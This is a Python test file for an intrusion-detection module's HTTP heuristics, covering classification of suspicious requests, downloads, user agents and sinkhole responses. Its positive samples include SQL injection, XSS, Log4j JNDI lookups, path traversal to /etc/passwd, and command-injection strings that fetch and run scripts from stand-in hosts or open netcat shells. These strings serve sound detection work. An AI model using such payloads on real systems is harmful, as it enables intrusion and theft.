"""`workers.heuristics.http_rules`: the spec 3 HTTP heuristics as pure functions — the corpus
`http_heuristics` expectations (spec 7), each category and rule with positives and negatives,
ordinary traffic that must stay quiet, and fuzzing (these run on attacker-controlled text)."""

from __future__ import annotations

import re
import time
from urllib.parse import unquote, urlparse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers.heuristics.http_rules import (
    SEIZED_TITLE_RE,
    SINKHOLE_RESPONSE_RE,
    SUSPICIOUS_CATEGORIES,
    SUSPICIOUS_CONTENT_TYPES,
    _filename,
    _ua_patterns,
    direct_download,
    encode_for_trail,
    iot_download,
    proxy_probe,
    suspicious_path,
    suspicious_request,
    suspicious_user_agent,
)

# --- corpus `http_heuristics` (spec 7): the categories and the exact trail texts -------------


@pytest.mark.parametrize(("path", "category", "trail"), [
    ("/items.php?id=1%20union%20all%20select%20username,password%20from%20users", "potential sql injection",
     "/items.php?id=1%20union%20all%20select%20username,password%20from%20users"),
    ("/download?file=../../../../etc/passwd", "potential directory traversal",
     "/download?file=../../../../etc/passwd"),
    ("/cgi?cmd=;cat%20/etc/passwd;wget%20http:/evil/x.sh", "potential remote code execution",
     "/cgi?cmd=;cat%20/etc/passwd;wget%20http:/evil/x.sh"),
    ("/cgi?cmd=;cat%20/etc/passwd;wget%20http://evil/x.sh", "potential remote code execution",
     "/cgi?cmd=;cat%20/etc/passwd;wget%20http://evil/x.sh"),
    ("/search?q=<script>alert(1)</script>", "potential xss injection", "/search?q=<script>alert%281%29</script>"),
])
def test_corpus_path_cases(path: str, category: str, trail: str) -> None:
    assert suspicious_request(path, None, private_dst=False) == category
    assert encode_for_trail(path) == trail


def test_corpus_post_sqli() -> None:
    body = "q=1%20UNION%20ALL%20SELECT%20pwd%20FROM%20users"
    assert suspicious_request("/submit", None, False) is None
    assert suspicious_request(unquote(body), body, False) == "potential sql injection"
    assert encode_for_trail(body) == body


def test_corpus_other_http_heuristics() -> None:
    assert iot_download("198.51.100.99", "/mirai.x86")
    assert proxy_probe("http://proxycheck.example/")
    assert direct_download("dl.example", "/setup.exe", private_dst=False) == "direct .exe download (suspicious)"
    assert suspicious_user_agent("masscan/1.0") == "masscan(/1.0)"


# --- suspicious request: categories, order, preconditions, whitelist -------------------------

POSITIVES = {
    "potential sql injection": [
        "/x.php?id=1 and 1=1", "/x.php?id=1'+or+'1'='1", "/x?id=1 AND 5>3", "/x?id=-1 union select 1,2,3",
        "/x?id=1+UNION+ALL+SELECT+NULL,NULL--", "/x?id=1/**/union/**/select/**/1", "/x?id=1 order by 5--",
        "/x?id=1' ORDER BY 3#", "/x?q=1 and (select 1 from information_schema.tables)",
        "/x?id=(select name from master..sysdatabases)", "/x?id=1 and floor(rand(0)*2)",
        "/x?id=1 and updatexml(1,concat(0x7e,version()),1)", "/x?id=extractvalue(1,concat(0x7e,user()))",
        "/x?id=1 and (case when 1=1 then 1 else 0 end)", "/x?id=1;waitfor delay '0:0:5'--",
        "/x?id=convert(int,@@version)", "/x?id=cast(@@version as varchar(100))", "/x?id=(select count(*) from t)",
        "/x?id=1 and sleep(5)", "/x?id=1;select pg_sleep(10)", "/x?q=select name from users where id=1",
        "/x?q=select a,b from t group by a",
        "/x?q=select * from `users` as x where name like 'a%'", "/x?id=(select 1 from dbo.users u where u.id>0)",
        "/x?id=1 /*!50000and*/ 1", "/x?id=1 or/**/1=1",
        "/x?dsn=odbc;driver={sql server}", "/x?id=1 union select 1 into outfile '/tmp/x'",
        "/x?id=1; drop table users--", "/x?id=1;DROP DATABASE shop",
    ],
    "potential xml injection": ["/x?user=' or /text()='admin"],
    "potential php injection": ["/index.php?page=<?php phpinfo(); ?>", "/index.php?file=php://input",
                                "/x?f=php://filter/convert.base64-encode/resource=index.php"],
    "potential ldap injection": ["/login?user=*)(|(uid=*", "/x?filter=(|(cn=*))"],
    "potential xss injection": [
        "/x?q=<ScRiPt src=//evil/x.js>", "/x?q=javascript:alert(document.cookie)", "/x?q=prompt(1)",
        "/x?q=confirm`1`", "/x?q=\"><img src=x onerror=confirm(1)>", "/x?q=x\" onmouseover=\"prompt(1)",
        "/x?q=<svg/onload=confirm(document.domain)>", "/x?q=<input onfocus=confirm(1) autofocus>",
        "/x?q=<div style=\"transition:1s\" ontransitionend=print()>",
    ],
    "potential xxe injection": ["/x?xml=<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"],
    "potential ssti injection": ["/x?name=${7*7}", "/x?name=${{7*7}}", "/x?q=${T(java.lang.System).getenv()}"],
    "potential data leakage": [
        "/track?imei=356938035643809", "/t?imsi=310150123456789", "/t?iccid=89014103211118510720",
        "/t?mac=00:1a:2b:3c:4d:5e", "/t?sim=89014103211118510720", "/t?telnum=5551234",
        "/t?to=a@x.com,b@y.org,c@z.net,d@w.io",
    ],
    "config file access": ["/x?f=.htaccess", "/x?f=../.htpasswd", "/x?file=wp-config.php"],
    "potential remote code execution": [
        "/x?c=$_GET[cmd]", "/x?q=1;exec master..xp_cmdshell 'dir'", "/x?f=shell_exec('id')",
        "/x?ip=127.0.0.1;ping -c 3 10.0.0.1", "/x?ip=1|ping -n 10 127.0.0.1", "/x?c=curl -O http://e/x",
        "/x?c=wget+-q+http://e/x", "/x?c=/bin/sh -i", "/x?c=;cat /etc/shadow", "/x?c=chmod 777 /tmp/x",
        "/x?c=echo aWQ= | base64 -d", "/x?c=nc -l -p 4444", "/x?c=nc -lvp 4444", "/x?c=ncat -e cmd 1.2.3.4 99",
        "/x?c=x > /dev/null",
        "/x?c=id 2>&1", "/x?c=cmd.exe /c dir", "/x?x=${jndi:ldap://evil/a}", "/x?x=${jndi:rmi://evil/a}",
        "/x?x=${jndi:dns://evil/a}", "/x?x=${${lower:j}ndi:ldap://evil/a}", "/x?c=;cat${IFS}/etc/passwd",
        "/x?c=Runtime.getRuntime().exec(\"id\")", "/x?cmd=ipconfig /all", "/x?cmd=nltest /dclist:",
        "/x?cmd=netsh firewall show", "/x?c=;whoami", "/x?c=wget http://1.2.3.4/b.sh|sh",
    ],
    "potential directory traversal": [
        "/x?f=..\\..\\..\\windows\\win.ini", "/x?f=/etc/hosts", "/x?f=c:/boot.ini", "/x?f=c:/windows/system32/x",
        "/x?f=%SYSTEMROOT%/x", "/x?f=/proc/self/environ",
    ],
    "potential web scan": ["/acunetix-wvs-test?x=1", "/x?w00tw00t.at.isc.sans.dfind", "/muieblackcat?x=1",
                           "/x?u=http://abc.bxss.me/", "/x?file=some_inexistent_file"],
    "potential dns changer": ["/dnscfg.cgi?dnsPrimary=8.8.8.8&dnsSecondary=1.1.1.1",
                              "/userRpm/LanDhcpServerRpm.htm?dhcpPriDns=6.6.6.6", "/x.cgi?wan_dns1=6.6.6.6",
                              "/x?dns1=6.6.6.6&dns2=6.6.6.7"],
}


@pytest.mark.parametrize(("category", "path"), [(c, p) for c, paths in POSITIVES.items() for p in paths])
def test_category_positive(category: str, path: str) -> None:
    assert suspicious_request(path, None, False) == category
    assert suspicious_request(path.lower(), None, False) == category  # the sensor lowercases paths


def test_categories_are_in_spec_order() -> None:
    assert [name for name, _ in SUSPICIOUS_CATEGORIES] == [
        "potential sql injection", "potential xml injection", "potential php injection", "potential ldap injection",
        "potential xss injection", "potential xxe injection", "potential ssti injection", "potential data leakage",
        "config file access", "potential remote code execution", "potential directory traversal",
        "potential web scan", "potential dns changer"]
    # the first match wins: SQL injection outranks the XSS and traversal constructs also present
    assert suspicious_request("/x?q=<script>alert(1)</script> union select 1", None, False) == \
        "potential sql injection"
    assert suspicious_request("/x?f=../../../etc/passwd&c=;cat /etc/passwd", None, False) == \
        "potential remote code execution"


def test_shell_and_log4j_expressions_are_rce_not_ssti() -> None:
    for path in ("/x?x=${jndi:ldap://e/a}", "/x?c=a${IFS}b;cat${IFS}/x", "/x?x=${${::-j}ndi:rmi://e/a}"):
        assert suspicious_request(path, None, False) == "potential remote code execution"


def test_data_leakage_skipped_for_private_destination_on_path_only() -> None:
    path = "/track?imei=356938035643809"
    assert suspicious_request(path, None, private_dst=False) == "potential data leakage"
    assert suspicious_request(path, None, private_dst=True) is None
    assert suspicious_request(path, path, private_dst=True) == "potential data leakage"
    # other categories still apply towards private hosts
    assert suspicious_request("/x?id=1 union select 1", None, private_dst=True) == "potential sql injection"


def test_precondition_characters() -> None:
    assert suspicious_request("/cmd.exe", None, False) is None  # none of ? .. .ht = space '
    assert suspicious_request("/cmd.exe?", None, False) == "potential remote code execution"
    assert suspicious_request("/%3Cscript%3Ealert(1)%3C/script%3E", None, False) is None
    assert suspicious_request("/%3Cscript%3E%20alert(1)", None, False) == "potential xss injection"
    assert suspicious_request("/x/../<script>", None, False) == "potential xss injection"


def test_precondition_and_match_after_decoding() -> None:
    assert suspicious_request("/x%3fid%3d1%20union%20select%201", None, False) == "potential sql injection"
    assert suspicious_request("/x?q=%3cscript%3e", None, False) == "potential xss injection"


@pytest.mark.parametrize("path", [
    "/api/fql?q=1 union select 1", "/yql?q=<script>", "/uploads/x.php?c=cmd.exe",
    "/static/../images/../../../etc/passwd", "/a/../themes/x?f=../../../x", "/a/../js/x?f=/etc/passwd",
    "/gwx/x?q=alert(1)", "/ADS/x?Q=1 UNION SELECT 1",
])
def test_whitelisted_substrings(path: str) -> None:
    assert suspicious_request(path, None, False) is None


def test_post_body_variant() -> None:
    assert suspicious_request("/x", "user=admin'--&pass=x' or '1'='1", False) == "potential sql injection"
    assert suspicious_request("/x", "a=1&b=2", False) is None
    assert suspicious_request("/x", "plain words only", False) is None
    assert suspicious_request("/x", "", False) is None
    assert suspicious_request("/x", "cmd=%3Bwget%20http%3A%2F%2Fe%2Fx", False) == "potential remote code execution"
    assert suspicious_request("/x", "f=../uploads/a&c=cmd.exe", False) is None  # whitelisted `ads`


def test_encode_for_trail() -> None:
    assert encode_for_trail("a (b)\r\nc d") == "a%20%28b%29%0D%0Ac%20d"
    assert encode_for_trail("/plain?x=1") == "/plain?x=1"


BENIGN_URLS = [
    "/", "/index.html", "/favicon.ico", "/robots.txt", "/search?q=python+tutorial", "/search?q=how+to+select+a+laptop",
    "/search?q=select+from+a+wide+range&where=london", "/search?q=union+station+to+select+hotels",
    "/search?q=order+by+phone", "/search?q=drop+leaf+table", "/search?q=rock+and+roll&page=2",
    "/search?q=black+or+white", "/search?q=cats+and+dogs+1+2", "/search?q=sleep+apnea",
    "/search?q=case+studies+when+then", "/shop/case-studies/?when=now&then=later",
    "/search?q=convert+pdf+to+word", "/search?q=count+me+in", "/wiki/Union_(set_theory)",
    "/products?category=shoes&sort=price&order=asc", "/products?sort=name&order=desc&page=3",
    "/api/v1/users/42/orders?limit=50&offset=100", "/api/v2/items?filter=status:active&fields=id,name",
    "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale", "/landing?gclid=EAIaIQobChMI8&fbclid=IwAR3x",
    "/watch?v=dQw4w9WgXcQ&t=42s", "/maps/place/Eiffel+Tower/@48.8583701,2.2922926,17z",
    "/login?next=/dashboard&lang=en", "/logout?redirect_uri=https%3A%2F%2Fexample.com%2F",
    "/oauth/authorize?client_id=abc&response_type=code&scope=openid%20email&state=xyz",
    "/wp-admin/admin-ajax.php?action=heartbeat", "/wp-content/themes/twenty/style.css?ver=6.4.2",
    "/static/js/app.min.js?v=1.2.3", "/css/main.css?1700000000", "/img/logo.png?w=200&h=100&fit=crop",
    "/news/2024/01/15/select-committee-report?ref=home", "/blog/why-we-chose-postgres?from=twitter",
    "/docs/sql/select-statement?version=14", "/forum/viewtopic.php?t=1234&start=20",
    "/cart?add=sku-123&qty=2", "/checkout?step=payment&method=card", "/track?event=click&id=btn-42&ts=1700000000",
    "/pixel.gif?e=pv&url=https%3A%2F%2Fexample.com%2Fpage&tz=UTC", "/download?id=12345&type=pdf",
    "/files/report%20final%20(2).pdf", "/page?name=O'Brien", "/search?q=it's+raining",
    "/api/graphql?query={user(id:1){name}}", "/calendar?from=2024-01-01&to=2024-12-31", "/weather?city=S%C3%A3o+Paulo",
    "/feed.xml?format=rss&limit=20", "/support/how-to-use-ipconfig?lang=en", "/shop/cat-food?size=large",
    "/manual/en/function.shell-exec.html?x=1", "/search?q=nc+state+vs+duke", "/search?q=c%2B%2B+templates",
    "/search?q=email+me+at+a@example.com", "/a/b/c/d/e/f?x=y", "/path/with spaces/file.txt",
    "/r?u=https://example.org/x?y=1&z=2", "/api/time?tz=Europe/London", "/q?text=1+%3D+1+is+true",
    "/search?q=template+syntax", "/v?id=1&or=2&and=3",
    "/search?q=select+the+best+from+the+list+where+you+live", "/search?q=how+to+select+rows+from+table+where+id+equals",
    "/guide?next=/etc/hosts-file-explained", "/search?q=nc+-state+football", "/search?q=ping+-c+option",
    "/mail?subject=re:+order+by+3+pm", "/?q=drop+shipping+table+lamps", "/path?file=/bin/sh.html",
]


@pytest.mark.parametrize("path", BENIGN_URLS)
def test_benign_urls_are_quiet(path: str) -> None:
    assert suspicious_request(path.lower(), None, False) is None
    assert suspicious_path(path) is None


def test_benign_list_is_large() -> None:
    assert len(BENIGN_URLS) >= 50


# --- direct download --------------------------------------------------------------------------


@pytest.mark.parametrize(("path", "info"), [
    ("/setup.exe", "direct .exe download (suspicious)"), ("/a/b/x.dll", "direct .dll download (suspicious)"),
    ("/u/app.apk?x", "direct .apk download (suspicious)"), ("/p.PS1", "direct .ps1 download (suspicious)"),
    ("/d/invoice.hta", "direct .hta download (suspicious)"), ("/x/doc.lnk#frag", "direct .lnk download (suspicious)"),
    ("/m/123456789.msi", "direct .msi download (suspicious)"),
    ("/s.scr;jsessionid=1", "direct .scr download (suspicious)"),
])
def test_direct_download_positive(path: str, info: str) -> None:
    assert direct_download("dl.example", path, private_dst=False) == info


@pytest.mark.parametrize("path", [
    "/setup.exe?token=abc",            # `=` in the query
    "/1234567890.exe",                 # stem of 10 chars
    "/firefox-installer-latest.exe",   # long stem
    "/cgi-bin/x.exe", "/scripts/x.exe", "/_vti_bin/x.dll", "/bin/x.exe", "/pub/softpaq/sp1.exe", "/bios/a.exe",
    "/pc-axis/a.exe", "/setup.zip", "/setup", "/index.html", "/", "/x.exe/", "/.exe",
])
def test_direct_download_negative(path: str) -> None:
    assert direct_download("dl.example", path, private_dst=False) is None


def test_direct_download_private_destination_and_hostile_host() -> None:
    assert direct_download("dl.example", "/setup.exe", private_dst=True) is None
    assert direct_download("[bad", "/setup.exe", private_dst=False) == "direct .exe download (suspicious)"


# --- suspicious path --------------------------------------------------------------------------


def test_suspicious_path() -> None:
    assert suspicious_path("/cgi-bin/defaultwebpage.cgi") == "non-existent page (suspicious)"
    assert suspicious_path("/acunetix-wvs-test-for-some-inexistent-file") == "potential web scan (suspicious)"
    assert suspicious_path("/x/inexistent_file_name.inexistent0123?a=1") == "potential web scan (suspicious)"
    assert suspicious_path("/some-inexistent-website.acu/") is None  # a folder, not the file name
    assert suspicious_path("/index.html") is None
    assert suspicious_path("/x?f=defaultwebpage.cgi") is None  # only the file name counts


# --- IoT download, proxy probe ----------------------------------------------------------------


@pytest.mark.parametrize("path", [
    "/mirai.x86", "/bins/mirai.arm7", "/x86_64", "/bot.mips", "/a.mipsel", "/b.mpsl", "/c.m68k", "/d.ppc",
    "/e.powerpc", "/f.sh4", "/bins.sh", "/g.sparc", "/h.spc", "/i686", "/j.i586", "/k.armv7l", "/root", "/exploit",
    "/yarn", "/zte", "/arm", "/arm5", "/arm6", "/bins/sora.arm64", "/Mozi.m", "/x/y-arm7",
])
def test_iot_download_positive(path: str) -> None:
    assert iot_download("198.51.100.99", path.lower())


@pytest.mark.parametrize(("host", "path"), [
    ("evil.example", "/mirai.x86"),          # host is a name
    ("198.51.100.99:8080", "/mirai.x86"),    # not bare dotted digits
    ("198.51.100.99", "/mirai.x86?x=1"),     # query
    ("198.51.100.99", "/mirai.x86.txt"), ("198.51.100.99", "/index.html"), ("198.51.100.99", "/"),
    ("198.51.100.99", "/sharm"), ("198.51.100.99", "/charm"), ("198.51.100.99", "/firmware/marsh"),
    ("198.51.100.99", "/x86/readme"), ("198", "/mirai.x86"),
])
def test_iot_download_negative(host: str, path: str) -> None:
    assert not iot_download(host, path)


def test_proxy_probe() -> None:
    assert proxy_probe("http://proxycheck.example/")
    assert proxy_probe("http://1.2.3.4/echo.php")
    assert proxy_probe("http://judge.example/azenv.php?probe=1")
    assert not proxy_probe("http://example.com/index.html")
    assert not proxy_probe("/proxy/check")  # not an absolute URI
    assert not proxy_probe("https://proxycheck.example/")


# --- User-Agent -------------------------------------------------------------------------------


def test_user_agent_trails() -> None:
    assert suspicious_user_agent("masscan/1.0") == "masscan(/1.0)"
    assert suspicious_user_agent("sqlmap/1.7 (https://sqlmap.org)") == "sqlmap(/1.7 \\(https://sqlmap.org\\))"
    assert suspicious_user_agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
    # text on both sides: the match, then the whole escaped UA
    trail = suspicious_user_agent("Mozilla/5.0 sqlmap/1.7 (x)")
    assert trail == "sqlmap (Mozilla/5.0 sqlmap/1.7 \\(x\\))"
    # a trailing backslash is stripped from each piece (before the bracketing)
    assert suspicious_user_agent("masscan/1.0\\") == "masscan(/1.0)"
    assert suspicious_user_agent("(masscan") == "(\\()masscan"


def test_user_agent_list_lines() -> None:
    # ` (compatible` lines are literals, even when they would compile as regexes
    assert suspicious_user_agent("Mozilla/4.0 (compatible; RMS)") == "Mozilla/4.0 \\(compatible; RMS\\)"
    # a line that is not a valid regex (unbalanced bracket) is a literal too
    assert suspicious_user_agent("Mozilla/1.0 (compatible; MSIE 8.0; X)") == \
        "Mozilla/1.0 \\(compatible; MSIE 8.0(; X\\))"
    # regex lines keep their anchors (`\\A\\w{1,2}\\Z`)
    assert suspicious_user_agent("ab") == "ab"
    assert suspicious_user_agent("x") == "x"
    assert _ua_patterns("# note\n\n  foo\\d+  \n(?i)bar\nx (compatible; y)\nbad(\n") == \
        ["foo\\d+", re.escape("(?i)bar"), re.escape("x (compatible; y)"), re.escape("bad(")]


def test_user_agent_whitelist() -> None:
    assert suspicious_user_agent("masscan/1.0 Sophos") is None
    assert suspicious_user_agent("Microsoft-CryptoAPI/10.0 masscan") is None
    assert suspicious_user_agent("Apache (internal dummy connection)") is None


BENIGN_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 "
    "Edg/120.0.0.0",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/119.0 "
    "Mobile/15E148 Safari/604.1",
    "curl/8.4.0", "curl/7.68.0", "Wget/1.21.4", "python-requests/2.31.0", "Go-http-client/1.1",
    "Go-http-client/2.0", "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "Java/11.0.21",
    "Debian APT-HTTP/1.3 (2.6.1)", "Microsoft-Delivery-Optimization/10.0", "Windows-Update-Agent/10.0.10011.16384",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Spotify/8.8.96 Android/34 (Pixel 8)", "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "axios/1.6.2", "PostmanRuntime/7.36.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Twitterbot/1.0",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36 Edge/44.18363.8131",
]


@pytest.mark.parametrize("ua", BENIGN_UAS)
def test_benign_user_agents(ua: str) -> None:
    assert suspicious_user_agent(ua) is None


# --- response-side patterns -------------------------------------------------------------------


def test_sinkhole_response() -> None:
    head = "HTTP/1.1 200 OK\r\nServer: Apache\r\nX-Sinkhole: malware-sinkhole\r\nContent-Length: 0\r\n\r\n"
    m = SINKHOLE_RESPONSE_RE.search(head)
    assert m and m.group(0) == "X-Sinkhole: malware-sinkhole"
    m = SINKHOLE_RESPONSE_RE.search("HTTP/1.1 200 OK\r\nServer: Sinkhole/1.0\r\n\r\n")
    assert m and m.group(0) == "Server: Sinkhole/1.0"
    assert SINKHOLE_RESPONSE_RE.search("HTTP/1.1 200 OK\r\n\r\n<p>This domain has been sinkholed by abuse.ch</p>")
    assert SINKHOLE_RESPONSE_RE.search("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n\r\n"
                                       "<html><title>Kitchen sink holder</title></html>") is None


def test_seized_title() -> None:
    assert SEIZED_TITLE_RE.search("This domain name has been seized by the FBI")
    assert SEIZED_TITLE_RE.search("DOMAIN SEIZED")
    assert SEIZED_TITLE_RE.search("Domain Seizure notice")
    assert SEIZED_TITLE_RE.search("Welcome to example.com") is None


def test_content_types() -> None:
    for ctype in ("application/x-sh", "application/x-shellscript", "text/x-sh", "application/hta"):
        assert ctype in SUSPICIOUS_CONTENT_TYPES
    for ctype in ("text/html", "application/json", "application/octet-stream", "application/x-msdownload"):
        assert ctype not in SUSPICIOUS_CONTENT_TYPES
    assert all(c == c.strip().lower() for c in SUSPICIOUS_CONTENT_TYPES)


# --- robustness -------------------------------------------------------------------------------


def test_user_agent_of_backslashes_keeps_a_trail() -> None:
    """Found by hypothesis: a User-Agent of one backslash matched the list and gave an empty trail."""
    assert suspicious_user_agent("\\") == "\\"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300), st.one_of(st.none(), st.text(max_size=300)), st.booleans(), st.text(max_size=60))
def test_random_text_never_raises(path: str, body: str | None, private: bool, host: str) -> None:
    category = suspicious_request(path, body, private)
    assert category is None or category in {name for name, _ in SUSPICIOUS_CATEGORIES}
    encode_for_trail(path)
    direct_download(host, path, private)
    suspicious_path(path)
    iot_download(host, path)
    proxy_probe(path)
    trail = suspicious_user_agent(path)
    assert trail is None or trail


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="/.?=&%+ ()'\"<>;|$*{}@-_:aeiou0123456789selctunionrdbyw", max_size=400))
def test_attack_alphabet_never_raises(text: str) -> None:
    suspicious_request(text, None, False)
    suspicious_request("/", text, False)
    suspicious_user_agent(text)


@pytest.mark.parametrize("text", [
    "/?" + "a" * 2000, "/?" + "a@" * 1000, "/?" + "a.b@c.d " * 250, "/?" + "union " * 400, "/?" + "select " * 300,
    "/?" + "select a from " * 150, "/?" + "/*" * 1000, "/?" + "${" * 1000, "/?" + "wget -a+" * 250,
    "/?" + "case when " * 200, "/?" + "nc -a " * 300, "/?" + "on" * 1000 + "error=" * 100, "/?" + "../" * 700,
    "/?q=" + "x+" * 1000, "/?" + "and 1" * 400,
])
def test_long_hostile_texts_are_fast(text: str) -> None:
    start = time.perf_counter()
    suspicious_request(text, None, False)
    suspicious_request("/", text, False)
    suspicious_user_agent(text)
    assert time.perf_counter() - start < 0.5


def test_fast_ua_matcher_finds_what_one_alternation_finds() -> None:
    """The prefiltered matcher must agree with a single alternation of the whole list, match for
    match, whitelisted User-Agents aside."""
    import re as _re

    from engine.resources import data_file
    from workers.heuristics.http_rules import _UA, _UA_WHITELIST, _ua_patterns

    patterns = _ua_patterns(data_file("ua.txt").read_text(encoding="utf-8"))
    one = _re.compile("|".join(f"(?:{p})" for p in patterns), _re.I)
    samples = ["curl/8.0", "python-requests/2.31",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0"]
    for line in patterns:
        text = _re.sub(r"\\[AZb]", "", line).replace("\\", "")
        samples += [text, f"Mozilla/5.0 {text} x", f"{text}/1.2", text.upper()]
    for ua in samples:
        m = one.search(ua)
        expected = None if m is None or m.start() == m.end() or _UA_WHITELIST.search(ua) else (m.start(), m.end())
        got = _UA.search(ua)
        assert (None if got is None or got[0] == got[1] else got) == expected, ua


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet="ab/.?#;[]@:\\\t\r\n%=x", max_size=20), st.text(alphabet="ab/.?#;[]@:\\\t\r\nx", max_size=8))
def test_filename_shortcut_equals_urlparse(path: str, host: str) -> None:
    try:
        expected = urlparse("http://" + host + path).path.rsplit("/", 1)[-1]
    except ValueError:
        expected = path.split("?", 1)[0].split("#", 1)[0].rsplit("/", 1)[-1]
    assert _filename(host, path) == expected
